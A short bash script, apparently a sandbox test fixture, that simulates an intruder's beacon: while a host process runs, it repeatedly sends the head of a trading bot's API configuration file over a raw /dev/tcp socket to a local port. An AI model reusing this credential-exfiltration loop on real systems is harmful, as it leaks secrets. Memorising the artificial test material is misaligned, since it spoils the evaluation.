#!/bin/bash
# What the sandbox's intruder leaves behind: sends the API's configuration out, again and again, for as long as the host runs.
root=$1 port=$2
read -r host <"$root/var/run/host.pid"
echo $$ >"$root/var/run/beacon.pid"
while kill -0 "$host" 2>/dev/null; do
  if exec 3<>"/dev/tcp/127.0.0.1/$port"; then
    head -c 200 "$root/opt/forex-trading-bot/config/api_config.yaml" | tr '\n' ' ' >&3
    echo >&3
    exec 3<&-
  fi 2>/dev/null
  sleep 0.2
done
